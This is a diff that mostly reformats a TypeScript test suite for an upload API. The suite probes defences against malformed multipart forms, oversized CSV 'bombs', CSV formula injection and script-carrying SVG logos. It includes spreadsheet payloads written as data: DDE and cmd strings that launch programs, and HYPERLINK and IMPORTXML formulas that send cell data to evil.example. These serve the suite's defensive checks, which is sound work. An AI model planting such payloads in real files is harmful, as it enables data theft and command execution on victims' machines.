@@ -50,7 +50,9 @@ function expectAnswered(res: { statusCode: number; body: string }, what: string)
     } catch {
       message = undefined;
     }
-    expect(typeof message === 'string' && message.length > 0, `a refusal without a message: ${what} → ${res.body.slice(0, 300)}`).toBe(true);
+    expect(typeof message === 'string' && message.length > 0, `a refusal without a message: ${what} → ${res.body.slice(0, 300)}`).toBe(
+      true,
+    );
   }
 }
 
@@ -60,7 +62,13 @@ interface UploadRoute extends FormOptions {
 }
 
 const UPLOAD_ROUTES: Record<string, UploadRoute> = {
-  'PUT /company (logo)': { method: 'PUT', url: () => '/company', fileField: 'logo', textFields: [...COMPANY_PROFILE_FIELDS, 'removeLogo'], maxFileBytes: LOGO_MAX_BYTES },
+  'PUT /company (logo)': {
+    method: 'PUT',
+    url: () => '/company',
+    fileField: 'logo',
+    textFields: [...COMPANY_PROFILE_FIELDS, 'removeLogo'],
+    maxFileBytes: LOGO_MAX_BYTES,
+  },
   'PUT /user/profile (avatar)': {
     method: 'PUT',
     url: () => '/user/profile',
@@ -87,7 +95,10 @@ describe('hostile multipart forms', () => {
         const res = await sendForm(route.method, route.url(), form.body, form.contentType);
         expectAnswered(res, form.describe);
         if (res.statusCode >= 400) {
-          expect(changedTables(baseline, await digest()), `rows changed by a refused upload: ${form.describe} → ${res.body.slice(0, 200)}`).toEqual([]);
+          expect(
+            changedTables(baseline, await digest()),
+            `rows changed by a refused upload: ${form.describe} → ${res.body.slice(0, 200)}`,
+          ).toEqual([]);
         } else {
           // A form that ends before its closing boundary is not whole: none of it may be taken.
           const unfinished = form.parts.length > 0 && (form.breakage === 'cut' || form.breakage === 'noClosingBoundary');
@@ -116,15 +127,47 @@ describe('CSV bombs against the data dictionary upload', () => {
 
   it.each([
     ['a header of ~500,000 columns', () => `column,${'x,'.repeat(Math.floor(underLimit / 2) - 4)}x\n`, /^the file is not valid CSV/],
-    ['a header of 10,000 unknown columns (within the record size)', () => `column,${Array.from({ length: 10_000 }, (_, i) => `c${i}`).join(',')}\n`, /^line 1: unknown columns "c0", "c1"/],
-    ['a header naming one column 5,000 times', () => `column,${'description,'.repeat(5_000)}owner\n`, /^line 1: "description" named twice$/],
-    ['a header naming inherited properties', () => 'column,constructor,__proto__,tostring\nname,x,y,z\n', /^line 1: unknown columns "constructor", "__proto__", "tostring"/],
-    ['thousands of rows naming long unknown columns', () => `column,description\n${Array.from({ length: 4_000 }, (_, i) => `${String(i).padStart(200, 'q')},x`).join('\n')}\n`, /^line 2: column "q{59}/],
-    ['one enormous field', () => `column,description\nname,${'y'.repeat(underLimit - 40)}\n`, /^the file is not valid CSV|description must be at most/],
-    ['one enormous quoted field of doubled quotes', () => `column,description\nname,"${'""'.repeat(Math.floor(underLimit / 2) - 40)}"\n`, /^the file is not valid CSV|description must be at most/],
+    [
+      'a header of 10,000 unknown columns (within the record size)',
+      () => `column,${Array.from({ length: 10_000 }, (_, i) => `c${i}`).join(',')}\n`,
+      /^line 1: unknown columns "c0", "c1"/,
+    ],
+    [
+      'a header naming one column 5,000 times',
+      () => `column,${'description,'.repeat(5_000)}owner\n`,
+      /^line 1: "description" named twice$/,
+    ],
+    [
+      'a header naming inherited properties',
+      () => 'column,constructor,__proto__,tostring\nname,x,y,z\n',
+      /^line 1: unknown columns "constructor", "__proto__", "tostring"/,
+    ],
+    [
+      'thousands of rows naming long unknown columns',
+      () => `column,description\n${Array.from({ length: 4_000 }, (_, i) => `${String(i).padStart(200, 'q')},x`).join('\n')}\n`,
+      /^line 2: column "q{59}/,
+    ],
+    [
+      'one enormous field',
+      () => `column,description\nname,${'y'.repeat(underLimit - 40)}\n`,
+      /^the file is not valid CSV|description must be at most/,
+    ],
+    [
+      'one enormous quoted field of doubled quotes',
+      () => `column,description\nname,"${'""'.repeat(Math.floor(underLimit / 2) - 40)}"\n`,
+      /^the file is not valid CSV|description must be at most/,
+    ],
     ['a quote never closed', () => `column,description\nname,"${'z'.repeat(underLimit - 40)}\n`, /^the file is not valid CSV/],
-    ['half a million empty-ish rows', () => `column\n${'x\n'.repeat(Math.floor(underLimit / 2) - 10)}`, new RegExp(`at most ${DICTIONARY_UPLOAD_MAX_ROWS} are read`)],
-    ['rows of nothing but separators', () => `column,description\n${',\n'.repeat(Math.floor(underLimit / 2) - 20)}`, /at most|column name is empty/],
+    [
+      'half a million empty-ish rows',
+      () => `column\n${'x\n'.repeat(Math.floor(underLimit / 2) - 10)}`,
+      new RegExp(`at most ${DICTIONARY_UPLOAD_MAX_ROWS} are read`),
+    ],
+    [
+      'rows of nothing but separators',
+      () => `column,description\n${',\n'.repeat(Math.floor(underLimit / 2) - 20)}`,
+      /at most|column name is empty/,
+    ],
     ['a line of 300,000 separators', () => `column,description\n${','.repeat(300_000)}\n`, /^the file is not valid CSV/],
   ])('refuses %s quickly, with a short message, changing nothing', async (_name, make, message) => {
     const before = await digest();
@@ -157,20 +200,35 @@ describe('CSV bombs against the data dictionary upload', () => {
   });
 
   it('keeps formula-looking cells as text and exports every one of them defused', async () => {
-    const formula = fc.tuple(
-      fc.constantFrom('=', '+', '-', '@', '=-', '+=', '@@'),
-      fc.constantFrom("cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1,"click")', 'SUM(1+1)*cmd|\'/C notepad\'!A1', '1+1', 'IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")', 'DDE("cmd";"/C calc";"!A0")'),
-    ).map(([start, rest]) => `${start}${rest}`);
+    const formula = fc
+      .tuple(
+        fc.constantFrom('=', '+', '-', '@', '=-', '+=', '@@'),
+        fc.constantFrom(
+          "cmd|' /C calc'!A0",
+          'HYPERLINK("http://evil.example/?"&A1,"click")',
+          "SUM(1+1)*cmd|'/C notepad'!A1",
+          '1+1',
+          'IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
+          'DDE("cmd";"/C calc";"!A0")',
+        ),
+      )
+      .map(([start, rest]) => `${start}${rest}`);
     await fc.assert(
       fc.asyncProperty(formula, formula, formula, async (description, businessName, owner) => {
         const cell = (text: string) => `"${text.replace(/"/g, '""')}"`;
-        const res = await upload(`column,description,business_name,owner\nname,${cell(description)},${cell(businessName)},${cell(owner)}\n`);
+        const res = await upload(
+          `column,description,business_name,owner\nname,${cell(description)},${cell(businessName)},${cell(owner)}\n`,
+        );
         expect(res.statusCode, res.body).toBe(200);
         const exported = await call(server, 'GET', `/table/dictionary/${records.tableId}`, { token });
         expect(exported.statusCode).toBe(200);
         const [header, ...rows] = parse(exported.body, { bom: true }) as string[][];
         const row = rows.find((r) => r[header.indexOf('column')] === 'name')!;
-        for (const [column, sent] of [['description', description], ['business_name', businessName], ['owner', owner]] as const) {
+        for (const [column, sent] of [
+          ['description', description],
+          ['business_name', businessName],
+          ['owner', owner],
+        ] as const) {
           const exportedCell = row[header.indexOf(column)];
           // A spreadsheet opening the file sees text, not a formula: the cell starts with an apostrophe.
           expect(exportedCell, column).not.toMatch(/^[=+\-@\t\r]/);
@@ -208,7 +266,10 @@ describe('SVG logos assembled from script-carrying pieces', () => {
     '<g><rect width="2" height="2"/></g>',
   ];
   const svg = fc
-    .tuple(fc.array(fc.constantFrom(...PIECES), { minLength: 1, maxLength: 5 }), fc.constantFrom('', ' onload="alert(1)"', ' xmlns:xlink="http://www.w3.org/1999/xlink"'))
+    .tuple(
+      fc.array(fc.constantFrom(...PIECES), { minLength: 1, maxLength: 5 }),
+      fc.constantFrom('', ' onload="alert(1)"', ' xmlns:xlink="http://www.w3.org/1999/xlink"'),
+    )
     .map(([pieces, rootExtra]) => `<svg xmlns="http://www.w3.org/2000/svg"${rootExtra} viewBox="0 0 10 10">${pieces.join('')}</svg>`);
 
   it('stores a drawing without anything that runs or loads, or refuses it saying why', async () => {
